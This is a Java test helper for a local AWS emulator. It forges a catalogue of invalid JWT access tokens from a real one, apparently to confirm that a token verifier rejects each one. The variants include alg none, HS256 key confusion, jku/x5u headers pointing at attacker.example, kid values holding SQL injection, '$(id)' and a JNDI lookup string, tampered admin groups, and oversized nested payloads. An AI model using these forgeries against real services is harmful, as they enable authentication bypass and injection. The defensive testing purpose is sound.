package dev.madang.localaws;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.Objects.requireNonNull;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import tools.jackson.core.type.TypeReference;
import tools.jackson.databind.json.JsonMapper;

/**
 * Invalid tokens, derived from a user's real one. They are signed with the pool's genuine key where
 * possible, so that each has only the one defect that its name states; {@link #good()} shows that a
 * token created here is accepted if it has no defect.
 */
public final class ForgedTokens {
  private static final String ELSEWHERE = "https://attacker.example/keys.json";
  private static final int DEEP = 100_000;

  private final TokenIssuer maker;
  private final SignedInUser user;
  private final Map<String, Object> claims;
  private final Map<String, Object> header;
  private final long now = Instant.now().getEpochSecond();
  private final List<ForgedToken> forged = new ArrayList<>();

  public ForgedTokens(LocalAws localAws) {
    user = localAws.users().signedIn();
    maker = new TokenIssuer(new JsonMapper().readTree(signingKey(localAws)));
    claims = claims(user.accessToken());
    header = Map.of("alg", "RS256", "kid", maker.kid);
    algorithms();
    keys();
    headers();
    issuers();
    clients();
    uses();
    times();
    subjects();
    texts();
    shapes();
    signatures();
  }

  /** A token like the real one, created here. */
  public String good() {
    return maker.signed(header, claims);
  }

  /** The real token that the others are derived from. */
  public String real() {
    return user.accessToken();
  }

  public List<ForgedToken> bad() {
    return List.copyOf(forged);
  }

  private void algorithms() {
    for (var none : List.of("none", "None", "NONE", "nOnE")) {
      add("alg " + none, TokenIssuer.content(Map.of("alg", none), claims) + ".");
    }
    add("alg none with a key id", TokenIssuer.content(header("alg", "none"), claims) + ".");
    add(
        "alg none with a real signature",
        TokenIssuer.content(header("alg", "none"), claims) + "." + signatureOf(user.accessToken()));
    var publicKey = maker.genuine.getPublic().getEncoded();
    var pem = Base64.getMimeEncoder(64, "\n".getBytes(UTF_8)).encodeToString(publicKey);
    pem = "-----BEGIN PUBLIC KEY-----\n" + pem + "\n-----END PUBLIC KEY-----\n";
    var hs256 = header("alg", "HS256");
    add("HS256 with the public key in PEM", maker.mac(hs256, claims, pem.getBytes(UTF_8)));
    add("HS256 with the public key in DER", maker.mac(hs256, claims, publicKey));
    add("HS256 with the modulus", maker.mac(hs256, claims, maker.modulus().getBytes(UTF_8)));
    add(
        "HS256 with the decoded modulus",
        maker.mac(hs256, claims, Base64.getUrlDecoder().decode(maker.modulus())));
    add("HS256 with a space", maker.mac(hs256, claims, " ".getBytes(UTF_8)));
    var key = maker.genuine.getPrivate();
    add("RS384", maker.signedBy("SHA384withRSA", header("alg", "RS384"), claims, key));
    add("RS512", maker.signedBy("SHA512withRSA", header("alg", "RS512"), claims, key));
    add("RS256 that says RS512", maker.signed(header("alg", "RS512"), claims));
    add("RS512 that says RS256", maker.signedBy("SHA512withRSA", header, claims, key));
    add("RS1", maker.signedBy("SHA1withRSA", header("alg", "RS1"), claims, key));
    add("PS256", maker.pss(header("alg", "PS256"), claims));
    add(
        "ES256 with a key of its own",
        maker.signedBy(
            "SHA256withECDSAinP1363Format",
            header("alg", "ES256"),
            claims,
            TokenIssuer.ec().getPrivate()));
    add("alg in lower case", maker.signed(header("alg", "rs256"), claims));
    add("alg with a space", maker.signed(header("alg", "RS256 "), claims));
    add("alg null", maker.signed(header("alg", null), claims));
    add("alg a number", maker.signed(header("alg", 256), claims));
    add("alg a list", maker.signed(header("alg", List.of("RS256")), claims));
    add("no alg", maker.signed(Map.of("kid", maker.kid), claims));
  }

  private void keys() {
    var foreign = maker.other.getPrivate();
    add("another key with the id of ours", maker.signed(header, claims, foreign));
    add("another key without an id", maker.signed(Map.of("alg", "RS256"), claims, foreign));
    add("no key id", maker.signed(Map.of("alg", "RS256"), claims));
    for (var kid :
        List.of(
            "",
            " ",
            "unknown",
            maker.kid.toUpperCase(Locale.ROOT),
            maker.kid + "\u0000",
            "../../../../dev/null",
            "/dev/null",
            "' OR '1'='1",
            "x' UNION SELECT 'key'; --",
            "$(id)",
            "${jndi:ldap://attacker.example/x}",
            ELSEWHERE)) {
      add(
          "key id " + TokenIssuer.json(Map.of("kid", kid)),
          maker.signed(header("kid", kid), claims));
    }
    add("key id null", maker.signed(header("kid", null), claims));
    add("key id a number", maker.signed(header("kid", 1), claims));
    add("key id a list", maker.signed(header("kid", List.of(maker.kid)), claims));
    add(
        "a path as key id, and an empty secret's kin",
        maker.mac(Map.of("alg", "HS256", "kid", "../../dev/null"), claims, new byte[1]));
  }

  private void headers() {
    var foreign = maker.other.getPrivate();
    for (var name : List.of("jku", "x5u")) {
      add(name + " of another", maker.signed(header(name, ELSEWHERE), claims, foreign));
      var alone = Map.of("alg", "RS256", "kid", "theirs", name, ELSEWHERE);
      add(name + " of another with its key id", maker.signed(alone, claims, foreign));
    }
    var jwk = publicJwk();
    add("jwk of another", maker.signed(header("jwk", jwk), claims, foreign));
    add("jwk alone", maker.signed(Map.of("alg", "RS256", "jwk", jwk), claims, foreign));
    var certificate = Base64.getEncoder().encodeToString(SelfSigned.certificate(maker.other));
    var chain = List.of(certificate);
    add("x5c of another", maker.signed(header("x5c", chain), claims, foreign));
    add("x5c alone", maker.signed(Map.of("alg", "RS256", "x5c", chain), claims, foreign));
    add(
        "crit of the unknown",
        maker.signed(header("crit", List.of("unknown"), "unknown", 1), claims));
    add("crit of exp", maker.signed(header("crit", List.of("exp"), "exp", now), claims));
    add("crit that is empty", maker.signed(header("crit", List.of()), claims));
    add("crit that is no list", maker.signed(header("crit", "exp"), claims));
    add("b64 false", maker.signed(header("crit", List.of("b64"), "b64", false), claims));
    add("b64 false and not critical", maker.signed(header("b64", false), claims));
    add("typ of another kind", maker.signed(header("typ", "dpop+jwt"), claims));
    add("typ JOSE", maker.signed(header("typ", "JOSE+JSON"), claims));
    add(
        "a token in a token",
        maker.signed(TokenIssuer.json(header("cty", "JWT")), good(), maker.genuine.getPrivate()));
    add(
        "a header that says zip",
        maker.signed(header("zip", "DEF", "crit", List.of("zip")), claims));
    add("a header twice", signedText(twice("alg", "\"none\"", TokenIssuer.json(header)), json()));
    add("two key ids", signedText(twice("kid", "\"theirs\"", TokenIssuer.json(header)), json()));
    add("a header that is a list", signedText("[\"RS256\"]", json()));
    add("a header that is text", signedText("\"RS256\"", json()));
    add("a header that is no JSON", signedText("{alg:RS256", json()));
    add("an empty header", signedText("", json()));
    add("a deep header", signedText("[".repeat(DEEP), json()));
  }

  private void issuers() {
    var issuer = (String) claim("iss");
    for (var other :
        List.of(
            issuer + "/",
            issuer + "2",
            issuer + " ",
            " " + issuer,
            issuer + "\n",
            issuer + "?x",
            issuer + "#",
            issuer.toUpperCase(Locale.ROOT),
            issuer.replace("cognito", "Cognito"),
            issuer.replace("https", "http"),
            issuer.replace("https://", ""),
            issuer.replace("eu-central-1", "eu-west-1"),
            issuer.replaceAll("_.*", "_anotherPool"),
            issuer.replace("https://", "https://x@"),
            issuer.replace("amazonaws.com", "amazonaws.com.attacker.example"),
            issuer.replace("cognito", "c\u043egnito"),
            issuer.replace("/", "\u2215"),
            issuer.replace("/", "%2F"),
            issuer.replace(".com/", ".com//"),
            issuer.replace(".com/", ".com/../"),
            "")) {
      addClaim("iss", other);
    }
    addClaim("iss", null);
    addClaim("iss", List.of(issuer));
    addClaim("iss", Map.of("iss", issuer));
    addClaim("iss", 1);
    addWithout("iss");
  }

  private void clients() {
    var client = (String) claim("client_id");
    for (var other :
        List.of("another", "", client + "x", client.toUpperCase(Locale.ROOT), " " + client, "*")) {
      addClaim("client_id", other);
    }
    addClaim("client_id", null);
    addClaim("client_id", List.of(client));
    addClaim("client_id", List.of(client, "another"));
    addClaim("client_id", Map.of("id", client));
    addClaim("client_id", 1);
    addWithout("client_id");
    var onlyAudience = new LinkedHashMap<>(claims);
    onlyAudience.remove("client_id");
    onlyAudience.put("aud", client);
    add("aud instead of client_id", maker.signed(header, onlyAudience));
    onlyAudience.put("azp", client);
    add("azp and aud instead of client_id", maker.signed(header, onlyAudience));
  }

  private void uses() {
    add("the user's ID token", user.idToken());
    for (var use : List.of("id", "refresh", "Access", "ACCESS", "access ", "")) {
      addClaim("token_use", use);
    }
    addClaim("token_use", null);
    addClaim("token_use", List.of("access"));
    addClaim("token_use", true);
    addWithout("token_use");
    add("a refresh token", "7d9e1c52-4f63-4c80-9d7e-0c5b1de1a0aa");
    var jwe = Map.of("cty", "JWT", "enc", "A256GCM", "alg", "RSA-OAEP");
    add("a refresh token as AWS makes them", encrypted(jwe));
    add(
        "a token that says it is encrypted for us",
        encrypted(Map.of("alg", "dir", "enc", "A128GCM", "kid", maker.kid)));
  }

  private void times() {
    addClaim("exp", now - 3600);
    addClaim("exp", now - 90);
    addClaim("exp", 0);
    addClaim("exp", -1);
    addClaim("exp", null);
    addClaim("exp", Long.MAX_VALUE);
    addClaim("exp", Long.MIN_VALUE);
    addClaim("exp", 9_999_999_999_999L);
    addClaim("exp", 1e300);
    addClaim("exp", "9999999999");
    addClaim("exp", "2099-01-01T00:00:00Z");
    addClaim("exp", true);
    addClaim("exp", List.of(now + 3600));
    addClaim("exp", Map.of());
    addWithout("exp");
    addClaim("nbf", now + 3600);
    addClaim("nbf", "9999999999");
    addClaim("nbf", Long.MAX_VALUE);
    addClaim("iat", now + 3600);
    addClaim("iat", "yesterday");
    addClaim("iat", null);
    addWithout("iat");
  }

  private void subjects() {
    addClaim("sub", "");
    addClaim("sub", " ");
    addClaim("sub", null);
    addClaim("sub", 1);
    addClaim("sub", true);
    addClaim("sub", List.of(user.sub()));
    addClaim("sub", Map.of("sub", user.sub()));
    addWithout("sub");
  }

  private void texts() {
    for (var name : List.of("sub", "iss", "exp", "client_id", "token_use")) {
      var real = claim(name) instanceof String text ? "\"" + text + "\"" : claim(name).toString();
      add(name + " twice", signedText(TokenIssuer.json(header), twice(name, real, json())));
    }
    add(
        "sub twice, one spelt with an escape",
        signedText(TokenIssuer.json(header), twice("s\\u0075b", "\"x\"", json())));
    for (var payload :
        List.of(
            "",
            " ",
            "[]",
            "{}",
            "null",
            "true",
            "1",
            "\"text\"",
            "[" + json() + "]",
            json() + json(),
            json() + "x",
            json().substring(1),
            json().substring(0, json().length() - 1),
            "\ufeff" + json(),
            "/* */" + json(),
            json().replace("\"", "'"),
            json().replace("}", ",}"),
            json().replaceAll("\"exp\":\\d+", "\"exp\":NaN"),
            json().replaceAll("\"exp\":\\d+", "\"exp\":0x7fffffff"))) {
      var shown = payload.length() < 20 ? payload : payload.replace(json(), "…");
      shown = shown.length() < 20 ? shown : "that is no proper JSON, of " + payload.length();
      add(
          "a payload " + shown + " #" + forged.size(),
          signedText(TokenIssuer.json(header), payload));
    }
    var genuine = maker.genuine.getPrivate();
    add(
        "a payload in UTF-16",
        maker.signed(TokenIssuer.json(header), json().getBytes(UTF_16), genuine));
    var broken = json().getBytes(UTF_8);
    broken[broken.length - 2] = (byte) 0xff;
    add("a payload in broken UTF-8", maker.signed(TokenIssuer.json(header), broken, genuine));
    var foreign = maker.other.getPrivate();
    var lists = "[".repeat(DEEP) + "]".repeat(DEEP);
    add("a deep payload", maker.signed(TokenIssuer.json(header), lists, foreign));
    var objects = "{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP);
    add("a deep payload of a real key", maker.signed(TokenIssuer.json(header), objects, genuine));
    var deepClaim = json().substring(0, json().length() - 1) + ",\"x\":" + lists + "}";
    add("a deep claim of a real key", maker.signed(TokenIssuer.json(header), deepClaim, genuine));
    add("1 MB of a real key", maker.signed(header, with("padding", "x".repeat(1_000_000))));
    add("1 MB of nothing", "x".repeat(1_000_000));
    add("1 MB of dots", ".".repeat(1_000_000));
  }

  private void shapes() {
    var parts = good().split("\\.");
    add("nothing", "");
    add("a space", " ");
    add("one part", parts[0]);
    add("two parts", parts[0] + "." + parts[1]);
    add("four parts", good() + "." + parts[2]);
    add("five parts", good() + "." + parts[1] + "." + parts[2]);
    add("only dots", "..");
    add("four dots", "....");
    add("a dot behind", good() + ".");
    add("a dot before", "." + good());
    add("no header", "." + parts[1] + "." + parts[2]);
    add("no payload", parts[0] + ".." + parts[2]);
    add("no signature", parts[0] + "." + parts[1] + ".");
    add("a space before", "  " + good());
    add("a space within", parts[0] + ". " + parts[1] + "." + parts[2]);
    add("a line break within", parts[0] + ".\n" + parts[1] + "." + parts[2]);
    add("a tab and more behind", good() + "\tx");
    add("a null behind", good() + "\u0000");
    add("padding of the signature", good() + "==");
    add("padding of the payload", parts[0] + "." + parts[1] + "=." + parts[2]);
    add("padding of the header", parts[0] + "==." + parts[1] + "." + parts[2]);
    add("the other alphabet", good().replace('-', '+').replace('_', '/') + "+");
    add("no Base64", "*" + good().substring(1));
    add("a percent sign", good().replace(".", "%2E"));
    add("quoted", "\"" + good() + "\"");
    add("two tokens", good() + "," + good());
    add("the word twice", "Bearer " + good());
    add(
        "JSON serialization",
        "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}"
            .formatted(parts[1], parts[0], parts[2]));
    add("other letters that look alike", good().replace('a', '\u0430') + "\u0430");
  }

  private void signatures() {
    var good = good();
    var content = good.substring(0, good.lastIndexOf('.'));
    var signature = Base64.getUrlDecoder().decode(signatureOf(good));
    add("a shorter signature", content + "." + TokenIssuer.encoded(Arrays.copyOf(signature, 255)));
    add("a longer signature", content + "." + TokenIssuer.encoded(Arrays.copyOf(signature, 257)));
    add("a signature of zeros", content + "." + TokenIssuer.encoded(new byte[256]));
    add("a signature of one byte", content + "." + TokenIssuer.encoded(new byte[1]));
    signature[100] ^= 1;
    add("a signature with another bit", content + "." + TokenIssuer.encoded(signature));
    add("the signature of another token", content + "." + signatureOf(user.idToken()));
    add("another spelling of the signature", otherSpelling(good));
    var changed = TokenIssuer.content(header, with("sub", "another")) + "." + signatureOf(good);
    add("a sub changed after signing", changed);
    var later = TokenIssuer.content(header, with("exp", now + 7200)) + "." + signatureOf(good);
    add("an exp changed after signing", later);
    var admin =
        TokenIssuer.content(header, with("cognito:groups", List.of("admin")))
            + "."
            + signatureOf(good);
    add("a group added after signing", admin);
    var headed = TokenIssuer.content(header("typ", "JWT"), claims) + "." + signatureOf(good);
    add("a header changed after signing", headed);
    add(
        "the real one with another header",
        TokenIssuer.encoded("{\"alg\":\"RS256\"}".getBytes(UTF_8))
            + user.accessToken().substring(user.accessToken().indexOf('.')));
  }

  /** The last character of a signature has unused bits. */
  private static String otherSpelling(String token) {
    var alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    var last = alphabet.indexOf(token.charAt(token.length() - 1));
    return token.substring(0, token.length() - 1) + alphabet.charAt(last ^ 1);
  }

  private void add(String what, String token) {
    forged.add(new ForgedToken(what, token));
  }

  private void addClaim(String name, @Nullable Object value) {
    add(TokenIssuer.json(of(name, value)), maker.signed(header, with(name, value)));
  }

  private void addWithout(String name) {
    var fewer = new LinkedHashMap<>(claims);
    fewer.remove(name);
    add("no " + name, maker.signed(header, fewer));
  }

  private Object claim(String name) {
    return requireNonNull(claims.get(name));
  }

  private String signedText(String header, String payload) {
    return maker.signed(header, payload, maker.genuine.getPrivate());
  }

  private String json() {
    return TokenIssuer.json(claims);
  }

  private static String twice(String name, String value, String object) {
    return "{\"" + name + "\":" + value + "," + object.substring(1);
  }

  private static String encrypted(Map<String, String> header) {
    var part = TokenIssuer.encoded(new byte[96]);
    return TokenIssuer.encoded(TokenIssuer.json(header).getBytes(UTF_8))
        + ".%s.%s.%s.%s".formatted(part, part.substring(0, 16), part, part.substring(0, 22));
  }

  private Map<String, @Nullable Object> with(String name, @Nullable Object value) {
    var more = new LinkedHashMap<String, @Nullable Object>(claims);
    more.put(name, value);
    return more;
  }

  private Map<String, @Nullable Object> header(String name, @Nullable Object value) {
    var more = new LinkedHashMap<String, @Nullable Object>(header);
    more.put(name, value);
    return more;
  }

  private Map<String, @Nullable Object> header(
      String name, Object value, String otherName, Object otherValue) {
    var more = header(name, value);
    more.put(otherName, otherValue);
    return more;
  }

  private static Map<String, @Nullable Object> of(String name, @Nullable Object value) {
    var one = new LinkedHashMap<String, @Nullable Object>();
    one.put(name, value);
    return one;
  }

  private Map<String, String> publicJwk() {
    var key = (RSAPublicKey) maker.other.getPublic();
    return Map.of(
        "kty",
        "RSA",
        "kid",
        "theirs",
        "n",
        TokenIssuer.encoded(key.getModulus().toByteArray()),
        "e",
        TokenIssuer.encoded(key.getPublicExponent().toByteArray()));
  }

  private static String signatureOf(String token) {
    return token.substring(token.lastIndexOf('.') + 1);
  }

  private static Map<String, Object> claims(String token) {
    var payload = Base64.getUrlDecoder().decode(token.split("\\.")[1]);
    return new JsonMapper()
        .readValue(payload, new TypeReference<LinkedHashMap<String, Object>>() {});
  }

  private static String signingKey(LocalAws localAws) {
    var address = localAws.endpoint().resolve("/_local/signing-key");
    try (var http = HttpClient.newHttpClient()) {
      return http.send(HttpRequest.newBuilder(address).build(), BodyHandlers.ofString()).body();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException("interrupted while asking for the signing key", e);
    }
  }
}
